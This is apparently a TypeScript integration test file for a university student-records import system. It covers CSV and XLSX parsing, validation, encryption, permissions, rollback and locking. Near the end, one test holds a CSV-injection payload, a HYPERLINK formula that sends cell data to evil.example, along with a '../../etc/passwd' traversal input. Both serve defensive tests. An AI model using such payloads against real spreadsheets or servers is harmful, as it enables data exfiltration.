import { createHash, randomBytes } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { Readable } from 'node:stream';
import ExcelJS from 'exceljs';
import iconv from 'iconv-lite';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { loadAccess, type Access } from '../../lib/server/auth/access';
import { getCipher } from '../../lib/server/crypto';
import { withRls } from '../../lib/server/db/rls';
import { importErrorReport } from '../../lib/server/imports/error-report';
import { getImportRun } from '../../lib/server/imports/get-run';
import { listImportRuns } from '../../lib/server/imports/list-runs';
import { previewImport } from '../../lib/server/imports/preview-import';
import { IMPORT_LOCK_CLASS, runImport } from '../../lib/server/imports/run-import';
import { discardImportUpload, resolveImportUpload, saveImportUpload } from '../../lib/server/imports/uploads';
import { freshDb, testEngine, type TestDb } from '../helpers/db';
import { makeDepartment, makeIdNumber, makeStaff, makeStudent, makeUser } from '../factories';

let t: TestDb;
let cs: { id: string; code: string }, fl: { id: string; code: string };
let registrar: Access, reviewer: Access;
const dir = mkdtempSync(path.join(os.tmpdir(), 'civ-imports-db-'));

beforeAll(async () => {
  t = await freshDb();
  cs = await makeDepartment(t.db);
  fl = await makeDepartment(t.db);
  registrar = (await loadAccess((await makeStaff(t.db, 'registrar')).ctx))!;
  reviewer = (await loadAccess((await makeStaff(t.db, 'reviewer', { departmentId: cs.id })).ctx))!;
});
afterAll(async () => {
  rmSync(dir, { recursive: true, force: true });
  await t?.cleanup();
});

/** Student numbers unique to one test: 2025 + 4 hex + serial. */
const prefix = () => `2025${randomBytes(2).toString('hex').toUpperCase()}`;
const write = (name: string, bytes: Buffer | string) => {
  const p = path.join(dir, `${randomBytes(4).toString('hex')}-${name}`);
  writeFileSync(p, bytes);
  return p;
};
const HEADER = '学号,姓名,性别,出生日期,身份证号,民族,学院,专业,年级';
const MAPPING = {
  student_number: '学号',
  name: '姓名',
  sex: '性别',
  birth_date: '出生日期',
  id_number: '身份证号',
  ethnicity: '民族',
  department: '学院',
  major: '专业',
  cohort: '年级',
};
const csvOf = (rows: string[][]) => `${HEADER}\r\n${rows.map((r) => r.join(',')).join('\r\n')}\r\n`;
const goodRow = (sn: string, name: string, dept = cs.code, birth = '2005-04-01'): string[] => [
  sn,
  name,
  '女',
  birth,
  makeIdNumber(birth.replace(/-/g, ''), 'female'),
  '汉族',
  dept,
  '软件工程',
  '2025',
];

const records = (sns: string[]) =>
  t.db.query<{
    student_number: string;
    name: string;
    id_number_enc: string;
    id_number_bidx: string;
    id_number_mask: string;
    updated_at: Date;
    import_run_id: string;
    birth_date: string | Date;
    sex: string;
    ethnicity: string;
  }>(
    `select student_number, name, id_number_enc, id_number_bidx, id_number_mask, updated_at, import_run_id, birth_date, sex, ethnicity
     from public.registrar_records where student_number = any($1::text[]) order by student_number`,
    [sns],
  );
const roster = (sns: string[]) =>
  t.db.query<{ student_number: string; name: string; department_id: string; cohort: number; user_id: string | null; updated_at: Date }>(
    'select student_number, name, department_id, cohort, user_id, updated_at from public.students where student_number = any($1::text[]) order by student_number',
    [sns],
  );

describe('a registrar import with broken rows', () => {
  const p = prefix();
  const sn = (i: number) => `${p}${String(i).padStart(3, '0')}`;
  let file: string;
  let rows: string[][];
  let firstRunId: string;

  beforeAll(() => {
    const bad = goodRow(sn(3), '王五');
    bad[4] = bad[4]!.slice(0, 17) + (bad[4]!.endsWith('0') ? '1' : '0');
    rows = [
      goodRow(sn(1), '张三'), // row 2
      goodRow(sn(2), '迪丽努尔·艾买提', `学院${fl.code}`), // row 3: department by Chinese name
      bad, // row 4: check digit
      [sn(4), '', '男', '2005-01-01', makeIdNumber('20050101', 'male'), '汉族', cs.code, '', '2025'], // row 5: no name
      [sn(5), '赵六', '男', '2001-13-40', makeIdNumber('20010101', 'male'), '汉族', cs.code, '', '2025'], // row 6: date
      goodRow(sn(1), '张三'), // row 7: duplicate student number
      goodRow(sn(7), '孙七', 'NOPE'), // row 8: unknown department
      goodRow(sn(8), '周八', `School ${cs.code}`), // row 9: department by English name
    ];
    file = write('roster.csv', csvOf(rows));
  });

  it('lands the good rows, encrypted, and reports each bad row with its column and code', async () => {
    const res = await runImport({ access: registrar, input: { kind: 'registrar', fileName: 'C:\\exports\\学籍.csv', filePath: file, mapping: MAPPING } });
    firstRunId = res.runId;
    expect(res).toMatchObject({
      status: 'succeeded',
      format: 'csv',
      encoding: 'utf-8',
      totalRows: 8,
      inserted: 3,
      updated: 0,
      unchanged: 0,
      errorRows: 5,
      roster: { inserted: 3, updated: 0 },
      sameFileAs: null,
    });
    expect(res.fileSha256).toBe(createHash('sha256').update(csvOf(rows)).digest('hex'));

    const run = await getImportRun({ access: registrar, input: { runId: res.runId } });
    expect(run).toMatchObject({ fileName: '学籍.csv', status: 'succeeded', errorCount: 5, startedByName: registrar.user.displayName, rosterInserted: 3 });
    expect(run.errors).toEqual([
      { rowNumber: 4, column: '身份证号', code: 'imports.errors.id.bad_checksum' },
      { rowNumber: 5, column: '姓名', code: 'imports.errors.required' },
      { rowNumber: 6, column: '出生日期', code: 'imports.errors.date' },
      { rowNumber: 7, column: '学号', code: 'imports.errors.duplicateInFile' },
      { rowNumber: 8, column: '学院', code: 'imports.errors.unknownDepartment' },
    ]);

    const stored = await records([sn(1), sn(2), sn(8)]);
    expect(stored.map((r) => r.name)).toEqual(['张三', '迪丽努尔·艾买提', '周八']);
    const id1 = rows[0]![4]!;
    expect(stored[0]!.id_number_enc).not.toContain(id1);
    expect(getCipher().decrypt(stored[0]!.id_number_enc, `registrar_records.id_number:${sn(1)}`)).toBe(id1);
    expect(stored[0]!.id_number_bidx).toBe(getCipher().blindIndex(id1, 'id_number'));
    expect(stored[0]).toMatchObject({
      id_number_mask: `${id1.slice(0, 4)}**********${id1.slice(-4)}`,
      sex: 'female',
      ethnicity: '01',
      import_run_id: res.runId,
    });
    expect((await records([sn(3), sn(4), sn(5), sn(7)])).length).toBe(0);

    expect(await roster([sn(1), sn(2), sn(8)])).toMatchObject([
      { name: '张三', department_id: cs.id, cohort: 2025, user_id: null },
      { name: '迪丽努尔·艾买提', department_id: fl.id },
      { name: '周八', department_id: cs.id },
    ]);
    const [event] = await t.db.query<{ details: Record<string, unknown>; actor_id: string }>(
      `select details, actor_id from public.audit_events where action = 'import.run' and entity_id = $1`,
      [res.runId],
    );
    expect(event).toMatchObject({ actor_id: registrar.user.id, details: { kind: 'registrar', status: 'succeeded', inserted: 3, error_rows: 5 } });
    expect(JSON.stringify(event!.details)).not.toContain(id1);
  });

  it('changes nothing when the same file is imported again', async () => {
    const before = await records([sn(1), sn(2), sn(8)]);
    const rosterBefore = await roster([sn(1), sn(2), sn(8)]);
    const res = await runImport({ access: registrar, input: { kind: 'registrar', fileName: '学籍.csv', filePath: file, mapping: MAPPING } });
    expect(res).toMatchObject({
      status: 'succeeded',
      inserted: 0,
      updated: 0,
      unchanged: 3,
      errorRows: 5,
      roster: { inserted: 0, updated: 0 },
      sameFileAs: { runId: firstRunId },
    });
    expect(await records([sn(1), sn(2), sn(8)])).toEqual(before);
    expect(await roster([sn(1), sn(2), sn(8)])).toEqual(rosterBefore);
  });

  it('updates only the changed rows of a corrected file, keeping the roster link of a signed-in student', async () => {
    const u = await makeUser(t.db);
    const linked = await makeStudent(t.db, fl.id, { userId: u.id, name: '旧名字', cohort: 2024 });
    const next = [...rows];
    next[0] = [...rows[0]!];
    next[0][1] = '张三丰';
    next.push(goodRow(linked.studentNumber, '新名字'));
    const res = await runImport({
      access: registrar,
      input: { kind: 'registrar', fileName: '学籍-更正.csv', filePath: write('fixed.csv', csvOf(next)), mapping: MAPPING },
    });
    expect(res).toMatchObject({ status: 'succeeded', inserted: 1, updated: 1, unchanged: 2, roster: { inserted: 0, updated: 2 } });
    expect((await records([sn(1)]))[0]).toMatchObject({ name: '张三丰', import_run_id: res.runId });
    expect((await roster([linked.studentNumber]))[0]).toMatchObject({ name: '新名字', department_id: cs.id, cohort: 2025, user_id: u.id });
  });

  it('gives the error report as CSV with a BOM, localized, audited', async () => {
    const zh = await importErrorReport({ access: registrar, input: { runId: firstRunId, locale: 'zh-CN' } });
    expect(zh.fileName).toMatch(/^import-errors-\d{8}-[0-9a-f]{8}\.csv$/);
    expect(zh.csv.startsWith('\uFEFF行号,列,问题,错误代码\r\n')).toBe(true);
    expect(zh.csv).toContain('4,身份证号,');
    expect(zh.csv).toContain(',imports.errors.id.bad_checksum\r\n');
    const en = await importErrorReport({ access: registrar, input: { runId: firstRunId, locale: 'en' } });
    expect(en.csv.split('\r\n')[0]).toBe('\uFEFFRow,Column,Problem,Code');
    expect(en.csv.split('\r\n')).toHaveLength(2 + 5);
    const [n] = await t.db.query<{ n: number }>(
      `select count(*)::int as n from public.audit_events where action = 'import.error_report.download' and entity_id = $1`,
      [firstRunId],
    );
    expect(n!.n).toBe(2);
  });

  it('lists recent runs with who ran them', async () => {
    const runs = await listImportRuns({ access: registrar, input: { kind: 'registrar' } });
    expect(runs.length).toBeGreaterThanOrEqual(3);
    expect(runs.find((r) => r.id === firstRunId)).toMatchObject({
      startedBy: registrar.user.id,
      startedByName: registrar.user.displayName,
      inserted: 3,
      errorRows: 5,
    });
    expect(runs[0]!.startedAt.getTime()).toBeGreaterThanOrEqual(runs[1]!.startedAt.getTime());
  });
});

describe('encodings and formats', () => {
  it('imports a GBK-encoded CSV (Excel "CSV" on Chinese Windows) with the Chinese names intact', async () => {
    const p = prefix();
    const rows = [goodRow(`${p}001`, '欧阳娜娜'), goodRow(`${p}002`, '买买提·吐尔逊')];
    const res = await runImport({
      access: registrar,
      input: { kind: 'registrar', fileName: 'gbk.csv', filePath: write('gbk.csv', iconv.encode(csvOf(rows), 'gbk')), mapping: MAPPING },
    });
    expect(res).toMatchObject({ status: 'succeeded', encoding: 'gb18030', inserted: 2, errorRows: 0 });
    expect((await records([`${p}001`, `${p}002`])).map((r) => r.name)).toEqual(['欧阳娜娜', '买买提·吐尔逊']);
  });

  it('imports a UTF-8 CSV with a BOM, the first header read without it', async () => {
    const p = prefix();
    const bytes = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(csvOf([goodRow(`${p}001`, '李雷')]))]);
    const file = write('bom.csv', bytes);
    const preview = await previewImport({ access: registrar, input: { kind: 'registrar', filePath: file } });
    expect(preview.headers[0]).toBe('学号');
    expect(preview.suggested).toEqual(MAPPING);
    const res = await runImport({
      access: registrar,
      input: { kind: 'registrar', fileName: 'bom.csv', filePath: file, mapping: preview.suggested as Record<string, string> },
    });
    expect(res).toMatchObject({ status: 'succeeded', encoding: 'utf-8-bom', inserted: 1 });
  });

  it('previews the first rows with the suggested mapping and ID numbers masked', async () => {
    const p = prefix();
    const rows = Array.from({ length: 30 }, (_, i) => goodRow(`${p}${String(i).padStart(3, '0')}`, '韩梅梅'));
    const preview = await previewImport({ access: registrar, input: { kind: 'registrar', filePath: write('preview.csv', csvOf(rows)) } });
    expect(preview).toMatchObject({
      format: 'csv',
      encoding: 'utf-8',
      delimiter: ',',
      required: ['student_number', 'name', 'id_number', 'department', 'cohort'],
    });
    expect(preview.rows).toHaveLength(20);
    expect(preview.rows[0]).toMatchObject({
      rowNumber: 2,
      values: { 姓名: '韩梅梅', 身份证号: `${rows[0]![4]!.slice(0, 4)}**********${rows[0]![4]!.slice(-4)}` },
    });
    expect(JSON.stringify(preview)).not.toContain(rows[0]![4]!);
  });

  it('imports an XLSX workbook: date cells, numeric student numbers, the department by name', async () => {
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet('2025级');
    ws.addRow(['学号', '姓名', '性别', '出生日期', '证件类型', '证件号码', '民族', '院系名称', '年级', '学籍状态']);
    const base = 20250000 + Math.floor(Math.random() * 9000) * 10;
    const ids = [makeIdNumber('20050401', 'male'), makeIdNumber('20050402', 'female')];
    ws.addRow([base + 1, '陈一', '男', new Date(Date.UTC(2005, 3, 1)), '居民身份证', ids[0], '回族', `学院${cs.code}`, 2025, '在读']);
    ws.addRow([base + 2, '林二', 'F', new Date(Date.UTC(2005, 3, 2)), '', ids[1], '5', `学院${fl.code}`, '2025级', '休学']);
    ws.getColumn(4).numFmt = 'yyyy/m/d';
    const file = write('roster.xlsx', Buffer.from(await wb.xlsx.writeBuffer()));
    const preview = await previewImport({ access: registrar, input: { kind: 'registrar', filePath: file } });
    expect(preview).toMatchObject({ format: 'xlsx', encoding: null });
    expect(preview.suggested).toMatchObject({ student_number: '学号', id_type: '证件类型', id_number: '证件号码', department: '院系名称', status: '学籍状态' });
    const res = await runImport({
      access: registrar,
      input: { kind: 'registrar', fileName: 'roster.xlsx', filePath: file, mapping: preview.suggested as Record<string, string> },
    });
    expect(res).toMatchObject({ status: 'succeeded', format: 'xlsx', totalRows: 2, inserted: 2, errorRows: 0 });
    const stored = await t.db.query<{ student_number: string; birth_date: string; ethnicity: string; status: string; department_id: string }>(
      `select student_number, to_char(birth_date, 'YYYY-MM-DD') as birth_date, ethnicity, status, department_id from public.registrar_records
       where student_number = any($1::text[]) order by student_number`,
      [[String(base + 1), String(base + 2)]],
    );
    expect(stored).toEqual([
      { student_number: String(base + 1), birth_date: '2005-04-01', ethnicity: '03', status: 'enrolled', department_id: cs.id },
      { student_number: String(base + 2), birth_date: '2005-04-02', ethnicity: '05', status: 'suspended', department_id: fl.id },
    ]);
  });

  it('imports an admissions list from a stream', async () => {
    const exam = `25${randomBytes(6).toString('hex').replace(/[a-f]/g, '7').slice(0, 12)}`;
    const id = makeIdNumber('20060708', 'male');
    const csv = `考生号,考生姓名,身份证号,录取学院,录取专业,录取年份\n${exam},刘洋,${id},${cs.code},数学,2025\n${exam.slice(0, -1)}9,王芳,${id.slice(0, 17)}${id.endsWith('0') ? '1' : '0'},,数学,2025\n`;
    const res = await runImport({
      access: registrar,
      input: {
        kind: 'admissions',
        fileName: '录取.csv',
        stream: Readable.from([Buffer.from(csv)]),
        mapping: { exam_number: '考生号', name: '考生姓名', id_number: '身份证号', department: '录取学院', major: '录取专业', admission_year: '录取年份' },
      },
    });
    expect(res).toMatchObject({ status: 'succeeded', inserted: 1, errorRows: 1, roster: null });
    const [row] = await t.db.query<{ name: string; sex: string; id_number_enc: string; department_id: string }>(
      'select name, sex, id_number_enc, department_id from public.admissions_records where exam_number = $1',
      [exam],
    );
    expect(row).toMatchObject({ name: '刘洋', sex: 'male', department_id: cs.id });
    expect(getCipher().decrypt(row!.id_number_enc, `admissions_records.id_number:${exam}`)).toBe(id);
  });

  it('refuses a mapping without the required fields before anything is written', async () => {
    const before = (await t.db.query<{ n: number }>('select count(*)::int as n from public.import_runs'))[0]!.n;
    await expect(
      runImport({
        access: registrar,
        input: {
          kind: 'registrar',
          fileName: 'x.csv',
          filePath: write('x.csv', csvOf([goodRow(`${prefix()}001`, '张三')])),
          mapping: { student_number: '学号', name: '不存在' },
        },
      }),
    ).rejects.toMatchObject({
      code: 'invalid_input',
      userMessage: 'imports.mapping.invalid',
      fieldErrors: { name: 'imports.mapping.unknownHeader', id_number: 'imports.mapping.required' },
    });
    await expect(
      runImport({
        access: registrar,
        input: {
          kind: 'registrar',
          fileName: 'old.xls',
          filePath: write('old.xls', Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0])),
          mapping: MAPPING,
        },
      }),
    ).rejects.toMatchObject({ code: 'unsupported_media', userMessage: 'imports.file.xls' });
    expect((await t.db.query<{ n: number }>('select count(*)::int as n from public.import_runs'))[0]!.n).toBe(before);
  });
});

describe('who may import', () => {
  it('refuses a reviewer in the verbs and in the database', async () => {
    const file = write('r.csv', csvOf([goodRow(`${prefix()}001`, '张三')]));
    await expect(runImport({ access: reviewer, input: { kind: 'registrar', fileName: 'r.csv', filePath: file, mapping: MAPPING } })).rejects.toMatchObject({
      code: 'forbidden',
    });
    await expect(previewImport({ access: reviewer, input: { kind: 'registrar', filePath: file } })).rejects.toMatchObject({ code: 'forbidden' });
    await expect(listImportRuns({ access: reviewer })).rejects.toMatchObject({ code: 'forbidden' });
    await expect(
      saveImportUpload({ access: reviewer, input: { kind: 'registrar', fileName: 'r.csv', body: Readable.from([Buffer.from('a')]) } }),
    ).rejects.toMatchObject({ code: 'forbidden' });

    await expect(
      withRls(reviewer.ctx, (tx) =>
        tx.query(`insert into public.import_runs (kind, file_name, file_sha256, format, started_by) values ('registrar', 'x.csv', $1, 'csv', $2)`, [
          '0'.repeat(64),
          reviewer.user.id,
        ]),
      ),
    ).rejects.toMatchObject({ code: '42501' });
    await expect(
      withRls(reviewer.ctx, (tx) =>
        tx.query(
          `insert into public.registrar_records (student_number, name, id_type, id_number_enc, id_number_bidx, id_number_mask, department_id, cohort, row_hash)
       values ('R0000001', '假学生', 'cn_resident', 'x', 'x', 'x', $1, 2025, 'x')`,
          [cs.id],
        ),
      ),
    ).rejects.toMatchObject({ code: '42501' });
    await expect(withRls(reviewer.ctx, (tx) => tx.query(`update public.registrar_records set name = '改名'`))).resolves.toEqual([]);
    expect(await withRls(reviewer.ctx, (tx) => tx.query('select * from public.import_runs'))).toEqual([]);
    expect(await withRls(reviewer.ctx, (tx) => tx.query('select * from public.import_row_errors'))).toEqual([]);
  });

  it('keeps uploads to their owner', async () => {
    const other = (await loadAccess((await makeStaff(t.db, 'registrar')).ctx))!;
    const up = await saveImportUpload({
      access: registrar,
      input: { kind: 'registrar', fileName: 'd:\\名单.csv', body: Readable.from([Buffer.from(csvOf([goodRow(`${prefix()}001`, '张三')]))]) },
    });
    expect(up).toMatchObject({ kind: 'registrar', fileName: '名单.csv' });
    expect((await resolveImportUpload({ access: registrar, input: { uploadId: up.uploadId } })).fileName).toBe('名单.csv');
    await expect(resolveImportUpload({ access: other, input: { uploadId: up.uploadId } })).rejects.toMatchObject({ code: 'not_found' });
    await expect(resolveImportUpload({ access: registrar, input: { uploadId: '../../etc/passwd' } })).rejects.toMatchObject({ code: 'not_found' });
    await discardImportUpload({ access: registrar, input: { uploadId: up.uploadId } });
    await expect(resolveImportUpload({ access: registrar, input: { uploadId: up.uploadId } })).rejects.toMatchObject({ code: 'not_found' });
    await expect(
      saveImportUpload({ access: registrar, input: { kind: 'registrar', fileName: 'a.pdf', body: Readable.from([Buffer.from('%PDF')]) } }),
    ).rejects.toMatchObject({ userMessage: 'imports.file.type' });
    await expect(
      saveImportUpload({
        access: registrar,
        input: { kind: 'registrar', fileName: 'a.csv', body: Readable.from([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 13])]) },
      }),
    ).rejects.toMatchObject({ userMessage: 'imports.file.unsupported' });
  });
});

describe('a failure half-way', () => {
  it('rolls back every row of the run and records the run as failed with the reason', async () => {
    const p = prefix();
    const rows = Array.from({ length: 700 }, (_, i) => goodRow(`${p}${String(i).padStart(3, '0')}`, '测试'));
    const poison = `${p}650`;
    // A constraint the validator does not know about, met in the second batch of 500: the first
    // batch has already been written when the database refuses.
    await t.db.query(`create function public.test_refuse_import() returns trigger language plpgsql as $$
      begin if new.student_number = '${poison}' then raise exception 'refused for the test' using errcode = 'check_violation'; end if; return new; end $$`);
    await t.db.query('create trigger test_refuse_import before insert on public.registrar_records for each row execute function public.test_refuse_import()');
    try {
      const text = csvOf(rows);
      const res = await runImport({ access: registrar, input: { kind: 'registrar', fileName: 'big.csv', filePath: write('big.csv', text), mapping: MAPPING } });
      expect(res).toMatchObject({ status: 'failed', inserted: 0, updated: 0 });
      expect(res.failure).toMatch(/^imports\.failure\.database::/);
      expect(JSON.parse(res.failure!.split('::')[1]!)).toMatchObject({ code: '23514' });
      const sns = rows.map((r) => r[0]!);
      expect(await records(sns)).toEqual([]);
      expect(await roster(sns)).toEqual([]);
      expect(await t.db.query('select 1 from public.import_row_errors where run_id = $1', [res.runId])).toEqual([]);
      const run = await getImportRun({ access: registrar, input: { runId: res.runId } });
      expect(run).toMatchObject({ status: 'failed', failure: res.failure, inserted: 0, fileSha256: createHash('sha256').update(text).digest('hex') });
      expect(run.finishedAt).not.toBeNull();
      const [event] = await t.db.query<{ details: Record<string, unknown> }>(
        `select details from public.audit_events where action = 'import.run' and entity_id = $1`,
        [res.runId],
      );
      expect(event!.details).toMatchObject({ status: 'failed', failure: 'imports.failure.database' });
    } finally {
      await t.db.query('drop trigger test_refuse_import on public.registrar_records');
      await t.db.query('drop function public.test_refuse_import()');
    }
  });
});

describe('two imports at once', () => {
  const twice = () => {
    const p = prefix();
    return write('twice.csv', csvOf(Array.from({ length: 600 }, (_, i) => goodRow(`${p}${String(i).padStart(3, '0')}`, '并发'))));
  };

  // PGlite runs one transaction at a time: there the second simply waits (the next test).
  it.runIf(testEngine === 'postgres')('refuses a second import of a kind while one is running (PostgreSQL), writing nothing', async () => {
    let release!: () => void;
    let locked!: () => void;
    const isLocked = new Promise<void>((r) => (locked = r));
    // Another session holds the registrar import lock, as a running import does.
    const holder = t.db.transaction(async (tx) => {
      await tx.query('select pg_advisory_xact_lock($1, 0)', [IMPORT_LOCK_CLASS]);
      locked();
      await new Promise<void>((r) => (release = r));
    });
    await isLocked;
    const runsBefore = (await t.db.query<{ n: number }>('select count(*)::int as n from public.import_runs'))[0]!.n;
    try {
      await expect(
        runImport({ access: registrar, input: { kind: 'registrar', fileName: 'twice.csv', filePath: twice(), mapping: MAPPING } }),
      ).rejects.toMatchObject({ code: 'conflict', userMessage: 'imports.errors.busy' });
    } finally {
      release();
      await holder;
    }
    expect((await t.db.query<{ n: number }>('select count(*)::int as n from public.import_runs'))[0]!.n).toBe(runsBefore);
  });

  // PGlite has one connection: the second import waits for the lock instead of being refused.
  it.runIf(testEngine === 'pglite')('runs two imports started together one after the other on PGlite', async () => {
    const file = twice();
    const run = () => runImport({ access: registrar, input: { kind: 'registrar', fileName: 'twice.csv', filePath: file, mapping: MAPPING } });
    const results = await Promise.all([run(), run()]);
    expect(results.map((r) => [r.inserted, r.unchanged]).sort()).toEqual([
      [0, 600],
      [600, 0],
    ]);
  });
});

describe('a registrar import carrying spreadsheet formulas (CSV injection)', () => {
  it('refuses formula-like names and makes the file’s own formula header inert in the error report', async () => {
    const p = prefix();
    // The name column's header is itself a formula: it comes from the file, so it is untrusted.
    const evilHeader = '=HYPERLINK("http://evil.example/?x="&A1;"点我")';
    const header = HEADER.replace('姓名', `"${evilHeader.replace(/"/g, '""')}"`);
    const rows = [
      goodRow(`${p}001`, '@SUM(A1)'),
      goodRow(`${p}002`, '+cmd'),
      [`${p}003`, '', '男', '2005-01-01', makeIdNumber('20050101', 'male'), '汉族', cs.code, '', '2025'], // no name
      goodRow(`${p}004`, '李四'),
    ];
    const file = write('formulas.csv', `${header}\r\n${rows.map((r) => r.join(',')).join('\r\n')}\r\n`);
    const res = await runImport({
      access: registrar,
      input: { kind: 'registrar', fileName: 'formulas.csv', filePath: file, mapping: { ...MAPPING, name: evilHeader } },
    });
    expect(res).toMatchObject({ status: 'succeeded', inserted: 1, errorRows: 3 });
    expect((await records([`${p}001`, `${p}002`, `${p}004`])).map((r) => r.name)).toEqual(['李四']);
    const report = await importErrorReport({ access: registrar, input: { runId: res.runId, locale: 'zh-CN' } });
    const lines = report.csv.split('\r\n').filter((l) => /^[234],/.test(l));
    expect(lines.map((l) => l.split(',').at(-1))).toEqual([
      'imports.errors.name.bad_characters',
      'imports.errors.name.bad_characters',
      'imports.errors.required',
    ]);
    // Each quoted and led by an apostrophe: Excel and WPS show the header as text, never run it.
    for (const l of lines) expect(l).toContain(`,"'=HYPERLINK(""http://evil.example/?x=""&A1;""点我"")",`);
    expect(report.csv).not.toMatch(/(^|,)"?=HYPERLINK/m);
  });
});
